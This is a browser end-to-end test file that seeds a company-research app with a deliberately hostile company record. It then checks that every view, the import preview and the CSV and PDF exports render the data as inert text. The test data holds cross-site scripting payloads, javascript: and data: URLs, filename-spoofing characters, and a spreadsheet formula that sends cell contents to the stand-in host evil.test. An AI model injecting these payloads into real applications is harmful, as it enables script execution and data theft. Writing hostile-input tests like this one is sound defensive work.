import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import { expect, type Page } from 'playwright/test';
import { openCompanyWriter } from '../../../src/server/index/open.ts';
import type { CompanyRecord } from '../../../src/server/record/companyRecord.ts';
import { indexFolderOf, workspaceFile } from '../../../src/server/jobs/copies/workspaceFiles.ts';
import { ready, test } from '../fixtures.ts';
import { browserShellOnly } from '../launchers/shell.ts';
import { api, call } from '../pages/bridge.ts';
import { at, press } from '../pages/list.ts';
import { expectScreen, makeList, openList } from '../pages/lists.ts';
import { go } from '../pages/screens.ts';

test.skip(process.env['WINNOW_E2E_SHELL'] === 'electron', 'The pages are the same; requests are watched in Chromium.');

const markup = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const breakout = '"\'></title></style></textarea><svg/onload=alert(3)>{{alert(4)}}${alert(5)}';
const formula = '=HYPERLINK("https://evil.test/?"&A1,"pay")';
const reversed = '\u202Egnp.exe\u2066\u200F hidden';
const hostileText = `${markup}${breakout}${reversed}`;

/** A company with an attack in every text. */
function hostileCompany(name: string): CompanyRecord {
  return {
    name,
    logo: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(6)"><image href="https://evil.test/a.png"/></svg>`,
    description: { short: hostileText, long: `${hostileText} `.repeat(1000), llm: '' },
    customerProblem: hostileText,
    targetCustomer: hostileText,
    businessModels: ['B2B'],
    score: 0.5,
    countryCode: 'DE',
    city: hostileText,
    founded: 2020,
    discoveredDate: '2026-11-16',
    cbRank: 1,
    semScorePercentile: 0.5,
    stages: ['inv_stage_seed'],
    industries: ['FinTech', markup.replaceAll(',', ''), breakout],
    highlights: ['positive_rated'],
    links: [
      { type: 'website', url: 'javascript:alert(document.domain)//https://good.example' },
      { type: 'linkedin', url: 'data:text/html,<script>alert(7)</script>' },
      { type: 'twitter', url: ' \u0001java\tscript:alert(8)' },
      { type: 'facebook', url: '//evil.test/x' },
    ],
    employeeCount: 12,
    emails: ['%zz%E0%A4@evil.test?bcc=all@evil.test&body=<script>', 'javascript:alert(9)'],
    fundedOn: '2026-08-01',
    fundingTotal: 3_000_000,
    followers: hostileText,
    isTranslated: true,
    universities: ['uni_<b>'],
    challenges: [hostileText, formula, reversed],
    people: [
      {
        first_name: markup,
        last_name: reversed,
        job_title: breakout,
        logo_url: 'https://evil.test/face.png',
        linkedin_url: 'JaVaScRiPt:alert(10)',
      },
    ],
    employeeBand: markup,
    lastRound: breakout,
    lastRoundAmount: 1,
    fundingRounds: 1,
    fundingTotalOriginal: '',
    lastRoundAmountOriginal: '',
    investorCount: 1,
    investors: [markup, formula],
    founderCount: 1,
    status: reversed,
    own: [{ name: markup, value: breakout }],
    isSample: false,
    formerNames: [markup, breakout],
    valuesOn: '2026-11-03',
    employeeGrowth: 0.25,
    fromFiles: [markup],
    history: { sources: [`2026-11-03 ${markup}`], seen: [] },
    aliases: [{ name: markup, domain: 'alias.test', countryCode: 'FR' }],
    ids: [`id=${markup}`],
  };
}

const names = [markup, `${formula} & Sons`, `Bank ${reversed} ${breakout}`];

/** Puts the companies straight into the workspace, bypassing everything that an importer makes harmless. */
async function fill(workspace: string): Promise<void> {
  const writer = openCompanyWriter(indexFolderOf(workspaceFile(workspace)));
  await writer.release('2026-W47', new Date('2026-11-20T06:00:00Z'));
  const batch = writer.begin('import');
  for (const name of names) batch.add(hostileCompany(name));
  await batch.commit();
  writer.close();
}

/**
 * Expects the page to be free of what no value may bring in: handlers, frames, foreign scripts, images and addresses.
 */
async function holds(page: Page, where: string): Promise<void> {
  const wrong = await page.evaluate(() => {
    const found: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      const { tagName, attributes } = element;
      const say = (what: string): unknown => found.push(`${tagName} ${what}`);
      if (/^(?:iframe|object|embed|base)$/i.test(tagName)) say('is there');
      for (const { name, value } of attributes) {
        if (name.startsWith('on')) say(`${name}=${value}`);
        if (!['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc'].includes(name)) continue;
        const { protocol, origin } = new URL(value, document.baseURI);
        const isOwn = origin === location.origin;
        const isLink = tagName === 'A' && (protocol === 'https:' || protocol === 'mailto:');
        const isPicture = tagName === 'IMG' && (protocol === 'data:' || protocol === 'blob:');
        if (!isOwn && !isLink && !isPicture) say(`${name}=${value.slice(0, 80)}`);
      }
    }
    return found;
  });
  expect(wrong, where).toEqual([]);
}

test(
  'S44 a hostile company is text in every view: nothing runs, nothing is asked of anybody, no address is its own',
  browserShellOnly,
  async ({ start, workspace, complaints }) => {
    test.setTimeout(300_000);
    await fill(workspace);
    const app = await start({ sample: 0 });
    const { page } = app;
    const { origin } = new URL(page.url());
    const foreign: string[] = [];
    app.context.on('request', (request) => {
      const url = new URL(request.url());
      if (url.origin !== origin && url.protocol !== 'data:' && url.protocol !== 'blob:') foreign.push(request.url());
    });
    app.context.on('page', (opened) => opened.on('dialog', (dialog) => void dialog.dismiss()));
    page.on('dialog', (dialog) => {
      complaints.push(`a script ran: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const seen = (text: string) => page.getByText(text, { exact: false }).filter({ visible: true }).first();

    const { items } = await api(page, 'searchCompanies');
    expect(items.map(({ name }) => name).toSorted()).toEqual(names.toSorted());
    const id = items.find(({ name }) => name === markup)?.id ?? 0;
    const list = await makeList(page, markup, {});
    const collection = await api(page, 'createCollection', {
      body: { name: markup, description: hostileText.slice(0, 400) },
    });
    const company_ids = items.map((item) => item.id);
    await api(page, 'addCollectionItems', { body: { collection_id: collection.id, company_ids } });
    await call(page, 'preferences.set', { readingPane: 'right', filterPanelOpen: true });

    // Lists, with the pane; the dashboard; focus mode; what is announced about a decision.
    await page.reload();
    await ready(page);
    await go(page, '/');
    await expect(seen(markup)).toBeVisible();
    await holds(page, 'dashboard');
    await go(page, '/list/search');
    await at(page, 1, names.length);
    for (let row = 1; row <= names.length; row++) {
      await at(page, row, names.length);
      await expect(page.getByRole('heading', { level: 2 }).filter({ visible: true }).first()).toBeVisible();
      await holds(page, `search, row ${row}`);
      if (row < names.length) await press(page, 'j');
    }
    await openList(page, list);
    await press(page, 'Shift+f');
    await expect(page.getByRole('region', { name: 'Focus mode' })).toBeVisible();
    await holds(page, 'focus mode');
    await press(page, 'Escape');
    await expect(page.getByRole('region', { name: 'Focus mode' })).toHaveCount(0);
    await press(page, 'x');
    await expect(page.getByRole('toolbar', { name: 'Selection' })).toBeVisible();
    await press(page, 'c');
    await expect(page.getByRole('dialog').getByText(markup, { exact: false }).first()).toBeVisible();
    await holds(page, 'collection dialog');
    await press(page, 'Escape', 'Escape');
    await press(page, 'w');
    await expect.poll(async () => (await api(page, 'listEntries', { query: { tag_watchlist: 'true' } })).count).toBe(1);
    await holds(page, 'what is said of a decision');
    await go(page, '/list/watchlist');
    await at(page, 1, 1);
    await holds(page, 'watchlist');

    // The company: its page with sector and similar ones, its own window, the reports.
    for (const path of [`/company/${id}`, `/embed/company/${id}`]) {
      await go(page, path);
      await expectScreen(page, markup);
      await expect(seen(breakout)).toBeVisible();
      await holds(page, path);
    }
    await go(page, `/company/${id}`);
    for (const region of [/^Sector/, /^Similar/, 'In your lists']) {
      const section = page.getByRole('region', { name: region });
      // While loading, another element may replace it.
      await expect(() => section.scrollIntoViewIfNeeded({ timeout: 1000 })).toPass();
      await expect(section).toBeVisible();
    }
    await expect(
      page
        .getByRole('region', { name: /^Similar/ })
        .getByText(formula, { exact: false })
        .first(),
    ).toBeVisible();
    await holds(page, 'sector and similar companies');
    for (const path of [
      `/reports/${id}`,
      `/reports/list/${list.id}`,
      `/reports/collection/${collection.id}`,
      '/reports',
    ]) {
      await go(page, path);
      await expect(page.getByRole('heading', { level: 1 }).filter({ visible: true })).toBeVisible();
      await expect(seen('img src=x')).toBeVisible();
      await holds(page, path);
    }
    await go(page, `/collections/${collection.id}`);
    await expectScreen(page, markup);
    await at(page, 1, names.length);
    await holds(page, 'collection');
    await go(page, '/collections');
    await expect(seen(markup)).toBeVisible();
    await holds(page, 'collections');

    // The palette, a search with it, and the import's preview.
    await press(page, 'Control+k');
    await page.getByRole('dialog', { name: 'Command palette' }).getByRole('textbox').fill('<img');
    await expect(page.getByRole('dialog').getByText(markup, { exact: false }).first()).toBeVisible();
    await holds(page, 'palette');
    await press(page, 'Escape');
    await press(page, '/');
    await page.keyboard.type(markup);
    await press(page, 'Enter');
    await expectScreen(page, 'Search');
    await expect(
      page
        .getByText(/found\.|No matches/)
        .filter({ visible: true })
        .first(),
    ).toBeVisible();
    await holds(page, 'search for markup');
    await go(page, '/workspace');
    // Nothing would be left of a name that is a program alone.
    const row = [breakout, hostileText, 'javascript:alert(11)']
      .map((cell) => `"${cell.replaceAll('"', '""')}"`)
      .join(',');
    const buffer = Buffer.from(`name,description,${markup}\n${row}\n"","",x\n`);
    await page
      .getByLabel('Files to import')
      .setInputFiles({ name: `${markup.replaceAll('/', '')}.csv`, mimeType: 'text/csv', buffer });
    await expect(page.getByRole('cell', { name: 'javascript:alert(11)', exact: true })).toBeVisible();
    await holds(page, 'import preview');
    await page.getByRole('button', { name: 'Check first' }).click();
    await expect(page.getByText('Checked, nothing imported')).toBeVisible({ timeout: 60_000 });
    await holds(page, 'import report');

    // Files: no cell is a formula, and the report is printed.
    await go(page, `/collections/${collection.id}`);
    await expectScreen(page, markup);
    await at(page, 1, names.length);
    const csv = await app.saved(() => press(page, 'Control+e'));
    const { data } = Papa.parse<string[]>(await readFile(csv, 'utf8'), { skipEmptyLines: true });
    expect(data).toHaveLength(names.length + 1);
    expect(data.flat().filter((cell) => /^[=+@\t\r\n]|^-\D/.test(cell))).toEqual([]);
    await expect(page.getByText(/^Exported 3 companies to /)).toBeVisible();
    await holds(page, 'export note');
    await go(page, `/reports/${id}`);
    const pdf = await app.saved(() => page.getByRole('article').getByRole('button', { name: 'Save as PDF' }).click());
    expect((await readFile(pdf, 'latin1')).startsWith('%PDF-')).toBe(true);
    await expect(page.getByText(/^Saved /)).toBeVisible();
    await holds(page, 'report note');

    expect(complaints).toEqual([]);
    expect(foreign).toEqual([]);
    expect(app.context.pages()).toHaveLength(1);
  },
);
